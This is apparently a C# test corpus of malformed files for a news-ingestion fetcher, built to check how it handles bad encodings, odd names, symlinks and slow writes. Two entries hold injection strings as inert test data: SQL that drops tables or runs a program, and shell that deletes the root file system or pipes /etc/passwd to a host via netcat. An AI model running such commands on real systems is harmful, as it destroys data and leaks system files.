using System.Diagnostics;
using System.Globalization;
using System.Text;
using static Ingestion.EndToEnd.Tests.BadInput.ExpectedOutcome;

namespace Ingestion.EndToEnd.Tests.BadInput;

/// <summary>
/// One kind of bad input: the file name it is dropped under (relative to the inbox), how it is dropped, and what
/// must become of it. docs/bad-input.md documents the same list.
/// </summary>
public sealed record BadInputKind(string Kind, string FileName, ExpectedOutcome Expected, Func<string, Task> DropAsync)
{
    public override string ToString() => $"{Kind} ({FileName})";
}

/// <summary>The bad-input corpus of issue 8: every file is made here, nothing is read from disk.</summary>
public static class BadInputCorpus
{
    public const string LongName = "long-name-";

    /// <summary>A name of exactly 255 bytes, the most a Linux file system allows.</summary>
    public static readonly string MaxLengthName = LongName + new string('n', 255 - LongName.Length - ".txt".Length) + ".txt";

    /// <summary>Appended to for this long, in writes closer together than the fetcher's quiet period.</summary>
    public static readonly TimeSpan SlowWriteDuration = TimeSpan.FromSeconds(3);

    public static IReadOnlyList<BadInputKind> Create(string outsideFolder) =>
    [
        new("empty file", "empty.txt", new Failed("empty file"), Write([])),
        new("random binary", "random.bin", new Rejected("not text"), Write(RandomBytes(64 * 1024))),
        new("truncated UTF-8", "truncated-utf8.txt",
            new Stored(Title: "Überraschung im Stadtrat"),
            // The last character, ü, loses its second byte.
            Write(Encoding.UTF8.GetBytes(Page("Überraschung im Stadtrat", "Der Bürgermeister äußerte sich zur Größe des Vorhabens") + "Grü")[..^1])),
        new("UTF-16 without BOM", "utf16-no-bom.txt",
            new Stored(Title: "Заседание совета отложено", BodyContains: "Депутаты"),
            Write(Encoding.Unicode.GetBytes(Page("Заседание совета отложено", "Депутаты не пришли к согласию и перенесли заседание на следующую неделю")))),
        new("Latin-1 without a declaration", "latin1.txt",
            new Stored(Title: "Café au lait à Genève", BodyContains: "élève"),
            Write(Encoding.Latin1.GetBytes(Page("Café au lait à Genève", "Un élève a servi le café à la réunion du conseil municipal de Genève")))),
        new("mixed encodings", "mixed-encodings.txt",
            new Stored(Title: "Grüße aus Köln", BodyContains: "Straße"),
            Write([.. Encoding.UTF8.GetBytes(Page("Grüße aus Köln", "Die Straße war voll, als der Zug ankam")), .. Encoding.Latin1.GetBytes("Ein Satz in Latin-1: Größe.\n")])),
        new("invalid surrogates", "surrogates.txt",
            new Stored(Title: "Surrogates in the body", BodyContains: "after the surrogate"),
            Write([.. Encoding.UTF8.GetBytes(Page("Surrogates in the body", "A page with emoji 🎉 and a lone surrogate ")), 0xED, 0xA0, 0x80, .. " after the surrogate.\n"u8])),
        new("NUL bytes", "nul-bytes.txt",
            new Stored(Title: "NUL bytes inside", BodyContains: "between the NULs"),
            Write(Encoding.UTF8.GetBytes(Page("NUL bytes inside", "A scraped page that kept a few NUL bytes \0 between the NULs \0\0 of its text")))),
        new("50 MB file", "fifty-megabytes.txt", new Failed("larger than Fetcher:MaxFileBytes"), Write(Repeat("fifty megabytes of text. ", 50 << 20))),
        new("one 5 MB line", "five-megabyte-line.txt",
            new Stored(BodyContains: "one very long line"),
            Write(Repeat("one very long line without a break, ", 5 << 20))),
        new("deeply nested HTML", "deeply-nested.html",
            new Stored(Title: "Deep page", BodyContains: "Deep inside the markup"),
            Write(Encoding.UTF8.GetBytes(
                "<html><body><h1>Deep page</h1>" + string.Concat(Enumerable.Repeat("<div>", 100_000))
                + "<p>Deep inside the markup sits a paragraph long enough to count as the body of this page.</p></body></html>"))),
        new("text that looks like SQL", "sql.txt",
            new Stored(Title: "Robert'); DROP TABLE articles; --", BodyContains: "'; DELETE FROM documents WHERE '1'='1"),
            Write(Encoding.UTF8.GetBytes(Page("Robert'); DROP TABLE articles; --", "x'; DELETE FROM documents WHERE '1'='1'; COPY rejects FROM PROGRAM 'touch /tmp/pwned'; --")))),
        new("text that looks like shell", "shell.txt",
            new Stored(Title: "$(rm -rf /) `reboot`", BodyContains: "; cat /etc/passwd | nc example.com 9 && echo ${HOME}"),
            Write(Encoding.UTF8.GetBytes(Page("$(rm -rf /) `reboot`", "; cat /etc/passwd | nc example.com 9 && echo ${HOME} > /tmp/pwned")))),
        new("CRLF line endings", "crlf.txt",
            new Stored(Title: "Windows line endings", BodyContains: "carriage return"),
            Write(Encoding.UTF8.GetBytes(Page("Windows line endings", "Every line of this page ends with a carriage return and a line feed").ReplaceLineEndings("\r\n")))),
        new("CR-only line endings", "cr-only.txt",
            new Stored(Title: "Old Mac line endings", BodyContains: "carriage return"),
            Write(Encoding.UTF8.GetBytes(Page("Old Mac line endings", "Every line of this page ends with a carriage return alone").ReplaceLineEndings("\r")))),
        new("HTML with no content", "empty-markup.html", new Rejected("no article"), Write("<!DOCTYPE html><html><head></head><body></body></html>"u8.ToArray())),
        // The text fallback takes the navigation links for a title: stored, with no body.
        new("only boilerplate", "boilerplate.html", new Stored(Title: "Home World"), Write(Encoding.UTF8.GetBytes(
            "<html><body><nav><a href=\"/\">Home</a> <a href=\"/world\">World</a></nav>"
            + "<div class=\"cookie-banner\">We use cookies. Accept all cookies?</div>"
            + "<footer>© 2013 Example News. All rights reserved. Terms of Service. Privacy Policy.</footer></body></html>"))),
        new("huge comment count", "many-comments.txt", new Stored(Title: "A story readers argued about", Comments: 3_000), Write(ManyComments(3_000))),
        new("name with spaces", "name with  spaces .txt", new Stored(Title: "Spaces in the name"), WritePage("Spaces in the name")),
        new("unicode name", "ünïcödé – 記事 🎉.txt", new Stored(Title: "Unicode in the name"), WritePage("Unicode in the name")),
        new("quotes in the name", "quotes \"double\" and 'single'.txt", new Stored(Title: "Quotes in the name"), WritePage("Quotes in the name")),
        new("leading dashes", "--rf -- -x.txt", new Stored(Title: "Dashes leading the name"), WritePage("Dashes leading the name")),
        new("dots in the name", "..double..dots...txt", new LeftAlone(), WritePage("A dotfile is someone else's")),
        new("'..' inside the name", "dots..in..the..name..txt", new Stored(Title: "Dots inside the name"), WritePage("Dots inside the name")),
        new("control characters in the name", "tab\tand\nnewline.txt", new Stored(Title: "Control characters in the name"), WritePage("Control characters in the name")),
        new("255-byte name", MaxLengthName, new Stored(Title: "The longest name a file can have"), WritePage("The longest name a file can have")),
        new("name of a claim", "1700000000000.0123456789abcdef0123456789abcdef~claim.txt", new Stored(Title: "Named like a claim"), WritePage("Named like a claim")),
        new("name taken in failed/", "collides.txt", new Failed("empty file", FailedName: "collides (2).txt"), TakenInFailed),
        new("dotfile", ".hidden.txt", new LeftAlone(), WritePage("Hidden")),
        new("file in a subfolder", Path.Combine("sub", "nested.txt"), new LeftAlone(), WritePage("Nested")),
        new("directory named x.txt", "folder.txt", new LeftAlone(), inbox => Task.FromResult(Directory.CreateDirectory(Path.Combine(inbox, "folder.txt")))),
        new("symlink out of the inbox", "escape.txt", new Failed("outside the inbox"), SymlinkTo(Path.Combine(outsideFolder, "secret.txt"))),
        new("dangling symlink", "dangling.txt", new Failed("does not exist"), SymlinkTo(Path.Combine(outsideFolder, "missing.txt"))),
        new("FIFO (named pipe) with no writer", "fifo.txt", new Failed("empty file"), MakeFifo),
        new("no read permission", "unreadable.txt",
            // Root (CI, the test run) reads any file; the container's non-root user cannot. See docs/bad-input.md.
            Environment.IsPrivilegedProcess ? new Stored(Title: "Mode 000") : new Failed("cannot be read"),
            WriteUnreadable),
        new("removed while being written", "removed.txt", new Gone(), WriteSlowlyThenRemove),
        new("still being appended", "appended.txt", new Stored(Title: "Written slowly", BodyContains: "paragraph 30 of 30"), WriteSlowly),
        new("same content, first name", "twin-a.txt", new Stored(Title: "Twins"), WritePage("Twins")),
        new("same content, second name", "twin-b.txt", new Stored(Title: "Twins"), WritePage("Twins")),
    ];

    public static string Page(string title, string body) =>
        $"{title}\n\n{body}, as the reporter wrote in a paragraph long enough to be the article's body.\n";

    private static Func<string, Task> WritePage(string title) =>
        Write(Encoding.UTF8.GetBytes(Page(title, $"This page is about {title.ToLowerInvariant()}")));

    private static Func<string, Task> Write(byte[] content) => path => WriteAtOnceAsync(path, content);

    /// <summary>
    /// As a careful writer does: under a temporary name the fetcher ignores, then renamed into place. A busy machine
    /// can stall the test between creating a file and filling it for longer than the quiet period.
    /// </summary>
    public static async Task WriteAtOnceAsync(string path, byte[] content, UnixFileMode? mode = null)
    {
        var folder = Path.GetDirectoryName(path)!;
        Directory.CreateDirectory(folder);
        var partial = Path.Combine(folder, $".{Guid.NewGuid():N}.part");
        await File.WriteAllBytesAsync(partial, content);
        if (mode is { } unixMode && !OperatingSystem.IsWindows())
        {
            File.SetUnixFileMode(partial, unixMode);
        }

        File.Move(partial, path);
    }

    private static Func<string, Task> SymlinkTo(string target) => path =>
    {
        File.CreateSymbolicLink(path, target);
        return Task.CompletedTask;
    };

    /// <summary>An earlier failure under the same name waits in failed/: the new one must not overwrite it.</summary>
    private static async Task TakenInFailed(string path)
    {
        var failed = Path.Combine(Path.GetDirectoryName(path)!, "failed");
        Directory.CreateDirectory(failed);
        await File.WriteAllTextAsync(Path.Combine(failed, Path.GetFileName(path)), "an earlier failure");
        await WriteAtOnceAsync(path, []);
    }

    /// <summary>A named pipe with no writer: opening it for reading would block forever.</summary>
    private static async Task MakeFifo(string path)
    {
        using var mkfifo = Process.Start("mkfifo", [path]);
        await mkfifo.WaitForExitAsync();
        if (mkfifo.ExitCode != 0)
        {
            throw new InvalidOperationException($"mkfifo {path} exited with {mkfifo.ExitCode}");
        }
    }

    private static Task WriteUnreadable(string path) =>
        WriteAtOnceAsync(path, Encoding.UTF8.GetBytes(Page("Mode 000", "Nobody but root may read this page")), UnixFileMode.None);

    /// <summary>What <see cref="WriteSlowly"/> writes in all: the whole of it must be stored, not a prefix.</summary>
    public static IReadOnlyList<byte[]> SlowlyWrittenParts { get; } =
    [
        .. new[] { "Written slowly\n\n" }.Concat(Enumerable.Range(1, 30).Select(i =>
            $"This is paragraph {i} of 30, appended a moment after the one before it by a writer that takes its time.\n\n")).Select(Encoding.UTF8.GetBytes),
    ];

    private static async Task WriteSlowly(string path)
    {
        await using var stream = new FileStream(path, FileMode.CreateNew, FileAccess.Write, FileShare.ReadWrite | FileShare.Delete);
        foreach (var part in SlowlyWrittenParts)
        {
            await stream.WriteAsync(part);
            await stream.FlushAsync();
            await Task.Delay(SlowWriteDuration / SlowlyWrittenParts.Count);
        }
    }

    /// <summary>The fetcher sees the file appear and grow, then its writer gives up and deletes it.</summary>
    private static async Task WriteSlowlyThenRemove(string path)
    {
        await using (var stream = new FileStream(path, FileMode.CreateNew, FileAccess.Write, FileShare.ReadWrite | FileShare.Delete))
        {
            for (var i = 1; i <= 10; i++)
            {
                await stream.WriteAsync(Encoding.UTF8.GetBytes($"Half a page, part {i}.\n\n"));
                await stream.FlushAsync();
                await Task.Delay(SlowWriteDuration / 30);
            }
        }

        File.Delete(path);
    }

    private static byte[] RandomBytes(int length)
    {
        var bytes = new byte[length];
        new Random(8).NextBytes(bytes);
        return bytes;
    }

    private static byte[] Repeat(string unit, int length)
    {
        var text = new StringBuilder(length + unit.Length);
        while (text.Length < length)
        {
            text.Append(unit);
        }

        return Encoding.UTF8.GetBytes(text.ToString());
    }

    private static byte[] ManyComments(int count)
    {
        var page = new StringBuilder(Page("A story readers argued about", "The council voted on the budget after a long night"));
        // "3,000": the parser reads a count heading's number with its thousands separator (a bare "3000" is not one).
        page.Append(CultureInfo.InvariantCulture, $"\nsoundoff ({count:N0} Responses)\n");
        for (var i = 1; i <= count; i++)
        {
            page.Append(CultureInfo.InvariantCulture, $"  {i}. Reader {i}\n\n    Comment number {i} says the vote was wrong.\n\n    September 26, 2013 at 9:05 am | Reply\n");
        }

        return Encoding.UTF8.GetBytes(page.ToString());
    }
}
